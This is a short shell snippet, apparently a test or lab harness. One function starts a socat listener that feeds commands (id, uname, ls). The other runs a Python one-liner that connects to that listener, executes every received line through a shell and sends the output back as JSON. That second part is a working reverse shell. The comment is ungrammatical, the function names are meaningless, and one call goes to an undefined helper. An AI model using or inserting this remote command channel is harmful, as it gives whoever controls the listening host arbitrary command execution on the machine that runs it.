# Python has a shell run each line that comes, and sends what that writes within an object of JSON.
peers() { socat TCP-LISTEN:4444,bind=10.200.1.2 SYSTEM:'echo id; sleep 0.5; echo uname; sleep 0.5; echo ls -d /etc; sleep 0.5' & listening t 4444; }
scene() { timeout 8 python3 -ISc 'import socket, subprocess, json
s = socket.create_connection(("10.200.1.2", 4444))
for l in s.makefile(): s.sendall(json.dumps({"out": subprocess.run(l, shell=True, capture_output=True, text=True).stdout}).encode())'; }
